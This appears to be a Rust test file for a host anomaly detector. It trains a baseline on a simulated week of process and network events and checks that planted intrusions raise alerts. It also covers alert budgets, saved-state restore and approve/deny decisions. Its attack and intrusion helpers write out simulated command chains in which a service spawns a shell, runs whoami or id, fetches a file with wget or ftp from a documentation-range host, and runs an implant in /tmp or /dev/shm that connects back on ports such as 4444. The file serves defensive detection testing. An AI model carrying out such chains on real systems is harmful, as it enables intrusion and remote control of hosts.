//! A made-up host that is learned for a week, and then judged: what is planted, what
//! repeats, what is saved.

use std::fmt::Write;

use sentinel_baseline::{
    Anomaly, Baseline, Behaviour, Cause, Config, Decision, Delivery, LoadError, Phase,
};
use sentinel_event::Event;

const DAY: u64 = 86_400;

/// Lines of events, in the order of time.
#[derive(Default)]
struct Host {
    lines: Vec<(u64, String)>,
    pid: u64,
}

impl Host {
    fn new() -> Host {
        let mut host = Host {
            pid: 100,
            ..Host::default()
        };
        host.line(
            0,
            r#""kind":"exec","pid":1,"ppid":0,"exe":"/usr/lib/systemd/systemd","argv":["init"]"#,
        );
        for (pid, name) in [(10, "sshd"), (11, "cron"), (12, "app")] {
            host.line(1, &format!(r#""kind":"fork","pid":1,"child":{pid}"#));
            host.line(1, &format!(
                r#""kind":"exec","pid":{pid},"ppid":1,"exe":"/usr/sbin/{name}","argv":["{name}"],"unit":"{name}.service","uid":0"#
            ));
        }
        host
    }

    fn line(&mut self, second: u64, rest: &str) {
        self.lines.push((second, rest.to_owned()));
    }

    /// A program under a parent, ended after a second.
    fn run(&mut self, second: u64, parent: u64, exe: &str, arguments: &str) -> u64 {
        self.pid += 1;
        let pid = self.pid;
        self.line(
            second,
            &format!(r#""kind":"fork","pid":{parent},"child":{pid}"#),
        );
        self.line(second, &format!(
            r#""kind":"exec","pid":{pid},"ppid":{parent},"exe":"{exe}","argv":["{exe}","{arguments}"]"#
        ));
        pid
    }

    fn connect(&mut self, second: u64, pid: u64, addr: &str, port: u16) {
        self.line(
            second,
            &format!(r#""kind":"connect","pid":{pid},"addr":"{addr}","port":{port}"#),
        );
    }

    /// What goes on every day.
    fn day(&mut self, day: u64) {
        for minute in 0..1_440 {
            let at = day * DAY + minute * 60 + 5 + (minute * 7) % 50;
            if minute % 5 == 0 {
                let check = self.run(at, 11, "/usr/local/bin/check", "all");
                self.run(at + 1, check, "/usr/bin/df", "-P");
                self.run(at + 1, check, "/usr/bin/free", "-m");
                self.connect(at + 2, check, "10.0.0.5", 9091);
            }
            let work = (9 * 60..17 * 60).contains(&minute);
            if work && minute % 3 == 0 {
                let tools = ["ls", "cat", "grep", "git", "vim", "less", "make", "find"];
                let tool = tools[((minute * minute + day) % 8) as usize];
                self.run(
                    at,
                    10,
                    &format!("/usr/bin/{tool}"),
                    &format!("file{minute}"),
                );
            }
            if minute % 4 == 1 {
                self.connect(at, 12, "127.0.0.1", 5_432);
            }
            if work && (minute * 31 + day * 17).is_multiple_of(97) {
                // Somebody tries a tool that is new here.
                let letter = |n: u64| char::from(b'a' + (n % 26) as u8);
                let name: String = [minute, day, minute / 26].into_iter().map(letter).collect();
                self.run(at, 10, &format!("/usr/bin/x{name}"), "--help");
            }
        }
    }

    /// Something that a service never did: a shell, tools, a download, a new program.
    fn attack(&mut self, at: u64) {
        let shell = self.run(at, 12, "/usr/bin/dash", "-c");
        self.run(at + 5, shell, "/usr/bin/whoami", "");
        let fetch = self.run(at + 10, shell, "/usr/bin/wget", "http://203.0.113.9/x");
        self.connect(at + 11, fetch, "203.0.113.9", 80);
        let implant = self.run(at + 20, shell, "/tmp/.x/y", "");
        self.connect(at + 21, implant, "203.0.113.9", 4_444);
    }

    /// Another one, from a job.
    fn intrusion(&mut self, at: u64) {
        let shell = self.run(at, 11, "/usr/bin/ksh", "-c");
        self.run(at + 5, shell, "/usr/bin/id", "");
        let fetch = self.run(at + 10, shell, "/usr/bin/ftp", "198.51.100.7");
        self.connect(at + 11, fetch, "198.51.100.7", 21);
        let implant = self.run(at + 20, shell, "/dev/shm/.q", "");
        self.connect(at + 21, implant, "198.51.100.7", 9_001);
    }

    fn events(mut self) -> Vec<Event> {
        self.lines.sort_by_key(|(second, _)| *second);
        let mut text = String::new();
        for (second, rest) in self.lines {
            let (day, of_day) = (second / DAY, second % DAY);
            let (hour, minute, second) = (of_day / 3_600, of_day / 60 % 60, of_day % 60);
            let day = day + 2;
            let _ = writeln!(
                text,
                r#"{{"time":"2026-03-{day:02}T{hour:02}:{minute:02}:{second:02}Z",{rest}}}"#
            );
        }
        let (events, report) =
            sentinel_import::read_all(text.as_bytes()).expect("memory can be read");
        assert_eq!(report.bad, []);
        events
    }
}

fn begin_of(day: u64) -> i64 {
    // 2026-03-02 is a Monday.
    1_772_409_600_000_000_000 + (day * DAY) as i64 * 1_000_000_000
}

/// Learns until the eighth day, and detects from then on.
fn watch(baseline: &mut Baseline, events: &[Event]) -> Vec<Anomaly> {
    let mut found = Vec::new();
    for event in events {
        let phase = match event.time_ns < begin_of(7) {
            true => Phase::Learn,
            false => Phase::Detect,
        };
        baseline.set_phase(phase);
        baseline.observe(event, &mut found);
    }
    found
}

fn alerts(found: &[Anomaly]) -> Vec<&Anomaly> {
    found
        .iter()
        .filter(|anomaly| anomaly.delivery == Delivery::Alert)
        .collect()
}

/// Days with what goes on every day, and an attack on some.
fn weeks(days: u64, attacks: &[u64]) -> Vec<Event> {
    let mut host = Host::new();
    for day in 0..days {
        host.day(day);
        if attacks.contains(&day) {
            host.attack(day * DAY + 50_000);
        }
    }
    host.events()
}

#[test]
fn an_attack_is_told_in_words_and_normal_days_are_quiet() {
    let found = watch(&mut Baseline::new(Config::default()), &weeks(12, &[9]));
    let alerts = alerts(&found);
    let about = |anomaly: &&&Anomaly| {
        (begin_of(9) + 49_000_000_000_000..begin_of(9) + 52_000_000_000_000)
            .contains(&anomaly.time_ns)
    };
    let attack = alerts.iter().find(about).expect("the attack is told");
    let each: Vec<String> = attack.unusual.iter().map(|one| one.about()).collect();
    let words = format!(
        "{}; {}; {}",
        attack.summary(),
        attack.reason(),
        each.join("; ")
    );
    assert!(
        words.contains("dash -c is the first program ever that app started"),
        "{words}"
    );
    assert!(words.contains(", all on one day"), "{words}");
    let asked: Vec<bool> = attack.worst().p_values.iter().map(|p| p.is_nan()).collect();
    assert_eq!(
        asked[3..],
        [true; 2],
        "no network was trained, and none says anything"
    );
    assert!(
        words.contains("first connection ever by") || words.contains("never ran here before"),
        "{words}"
    );
    assert!(
        attack
            .worst()
            .notes
            .as_ref()
            .is_some_and(|notes| notes.len() >= 3)
            && attack.generation >= 3,
        "{words}"
    );
    assert!(attack.worst().p < 1e-2 && attack.per_day() < 0.3);
    let false_alerts = alerts.len() - alerts.iter().filter(about).count();
    assert!(
        false_alerts <= 5,
        "{false_alerts} false alerts in five days"
    );
}

#[test]
fn an_alert_that_was_suppressed_leaves_its_place_in_the_budget() {
    let mut host = Host::new();
    (0..10).for_each(|day| host.day(day));
    host.attack(9 * DAY + 50_000);
    host.intrusion(9 * DAY + 60_000);
    let events = host.events();
    let told = |suppress: bool| {
        let mut baseline = Baseline::new(Config {
            alerts_per_day: 1,
            ..Config::default()
        });
        let mut told = Vec::new();
        for event in &events {
            let found = watch(&mut baseline, std::slice::from_ref(event));
            for anomaly in &found {
                if suppress && anomaly.delivery == Delivery::Alert {
                    baseline.give_back(anomaly.time_ns);
                }
            }
            let late = found
                .iter()
                .filter(|a| a.time_ns >= begin_of(9) + 50_000_000_000_000);
            told.extend(late.map(|anomaly| anomaly.delivery));
        }
        told
    };
    assert_eq!(told(false)[..2], [Delivery::Alert, Delivery::Digest]);
    assert_eq!(told(true)[..2], [Delivery::Alert; 2]);
}

#[test]
fn what_was_planted_once_while_learning_is_told_all_the_same() {
    let found = watch(&mut Baseline::new(Config::default()), &weeks(10, &[3, 8]));
    let on = |day: u64| {
        found
            .iter()
            .filter(move |a| (begin_of(day)..begin_of(day + 1)).contains(&a.time_ns))
    };
    assert!(
        on(8).any(|anomaly| anomaly.delivery == Delivery::Alert),
        "the second time is told"
    );
    assert!(
        found
            .iter()
            .all(|a| a.time_ns >= begin_of(7) || a.delivery == Delivery::Preview),
        "learning alerts nothing"
    );
}

#[test]
fn it_goes_on_where_it_was_saved() {
    let events = weeks(9, &[8]);
    let half = events.partition_point(|event| event.time_ns < begin_of(5) + 3_600_000_000_000);
    // How much of the attack is learned before it is told depends on each p-value.
    let attack = events.partition_point(|event| event.time_ns < begin_of(8));
    let mut whole = Baseline::new(Config::default());
    watch(&mut whole, &events[..attack]);
    let mut first = Baseline::new(Config::default());
    watch(&mut first, &events[..half]);
    let mut second = Baseline::new(Config::default());
    second.restore(&first.to_bytes()).expect("is whole");
    assert_eq!(second.standing(), first.standing());
    watch(&mut second, &events[half..attack]);
    let (a, b) = (whole.standing(), second.standing());
    assert_eq!(a.programs, b.programs);
    // Processes that began before the restart are not known after it, so one night's models
    // may be judged otherwise.
    assert!(a.generation.abs_diff(b.generation) <= 1, "{a:?} {b:?}");
    let found = watch(&mut second, &events[attack..]);
    watch(&mut whole, &events[attack..]);
    assert!(
        !alerts(&found).is_empty(),
        "the attack is told after a restart"
    );
    assert_eq!(second.progress().missing, whole.progress().missing);
}

#[test]
fn what_is_not_whole_is_refused() {
    let mut learned = Baseline::new(Config::default());
    watch(&mut learned, &weeks(2, &[]));
    let bytes = learned.to_bytes();
    let refused = |bytes: &[u8]| {
        Baseline::new(Config::default())
            .restore(bytes)
            .expect_err("is refused")
    };
    assert_eq!(refused(b"nonsense"), LoadError::Malformed);
    assert_eq!(refused(&bytes[..bytes.len() - 1]), LoadError::Checksum);
    let changed = |at: usize| {
        let mut bytes = bytes.clone();
        bytes[at] ^= 1;
        bytes
    };
    assert_eq!(refused(&changed(8)), LoadError::Version { found: 4 });
    assert_eq!(refused(&changed(12)), LoadError::Columns);
    assert_eq!(refused(&changed(bytes.len() / 2)), LoadError::Checksum);
}

#[test]
fn a_program_shows_when_it_runs_and_who_starts_it() {
    let mut baseline = Baseline::new(Config::default());
    watch(&mut baseline, &weeks(4, &[]));
    let found = baseline.portraits("/usr/local/bin/check");
    let [check] = &found[..] else {
        panic!("{found:?}");
    };
    assert_eq!((check.runs, check.days), (4 * 288, 4));
    assert_eq!(check.parents[0], ("/usr/sbin/cron".to_owned(), 4 * 288));
    assert_eq!(check.networks[0], ("10.0.0.0/24".to_owned(), 4 * 288));
    assert_eq!(check.ports[0], ("9091".to_owned(), 4 * 288));
    assert!(check.hours.iter().all(|hour| *hour > 0.8), "{check:?}");
    let ls = &baseline.portraits("/usr/bin/ls")[0];
    assert!(ls.hours[3] == 0.0 && ls.hours[12] > 0.0, "{ls:?}");
    // A tool that was tried on the third day waits to become normal, until it is allowed.
    let waiting = baseline.behaviours();
    let one = waiting.first().expect("something waits").clone();
    assert!(one.words.contains(" starts "), "{one:?}");
    assert!((1..=2).contains(&one.days) && one.times > 0, "{one:?}");
    assert_eq!(one.decision, None);
    let decided = baseline.decide(&one.id, Decision::Approved);
    assert_eq!(decided, Some(one.words.clone()));
    let after = baseline.behaviours();
    let known = after.iter().find(|other| other.id == one.id);
    assert_eq!(
        known.map(|one| one.decision),
        Some(Some(Decision::Approved))
    );
    assert_eq!(baseline.decide("00000000", Decision::Approved), None);
    // Programs are found by their names, too.
    assert_eq!(baseline.portraits("check"), found);
    assert_eq!(baseline.portraits("chec"), []);
}

/// What is told of an attack, and of the same on two later days, where `decide` is asked
/// about all that waits after the first.
fn after_a_decision(decide: impl Fn(&Behaviour) -> Option<Decision>) -> [Vec<Anomaly>; 2] {
    let mut baseline = Baseline::new(Config::default());
    let mut later = weeks(14, &[11, 13]);
    later.retain(|event| event.time_ns >= begin_of(10));
    let mut told = watch(&mut baseline, &weeks(10, &[9]));
    told.retain(|anomaly| anomaly.time_ns > begin_of(9) + 50_000_000_000_000);
    let before = baseline.to_bytes();
    for behaviour in baseline.behaviours() {
        if let Some(decision) = decide(&behaviour) {
            assert!(baseline.decide(&behaviour.id, decision).is_some());
        }
    }
    // Decisions are saved, and going back to what was learned before does not undo them.
    let saved = baseline.to_bytes();
    baseline = Baseline::new(Config::default());
    baseline.restore(&saved).expect("is whole");
    baseline.go_back(&before, begin_of(10)).expect("is whole");
    [told, watch(&mut baseline, &later)]
}

#[test]
fn what_was_approved_is_told_no_more_and_what_was_denied_each_time() {
    let about = |anomaly: &Anomaly| anomaly.delivery == Delivery::Alert;
    let count = |list: &[Anomaly]| list.iter().filter(|a| about(a)).count();
    let [first, later] = after_a_decision(|_| None);
    assert_eq!(count(&first), 1);
    // By its second time some of it is known, and days of this host differ in their noise.
    assert!(count(&later) >= 1, "undecided, it is told again");
    let [_, later] = after_a_decision(|_| Some(Decision::Approved));
    assert_eq!(
        count(&later),
        0,
        "{:?}",
        later.first().map(Anomaly::summary)
    );
    // One thing alone is denied, which would be told of by nothing else.
    let [_, later] = after_a_decision(|behaviour| {
        Some(match behaviour.words.ends_with("starts /usr/bin/whoami") {
            true => Decision::Denied,
            false => Decision::Approved,
        })
    });
    let told: Vec<&Anomaly> = later.iter().filter(|a| about(a)).collect();
    assert_eq!(told.len(), 2, "on each of both days");
    for anomaly in told {
        assert_eq!(anomaly.cause, Cause::Denied);
        assert!(anomaly.summary().contains("ran /usr/bin/whoami"));
        assert!(
            anomaly.reason().contains("was denied"),
            "{}",
            anomaly.reason()
        );
    }
}
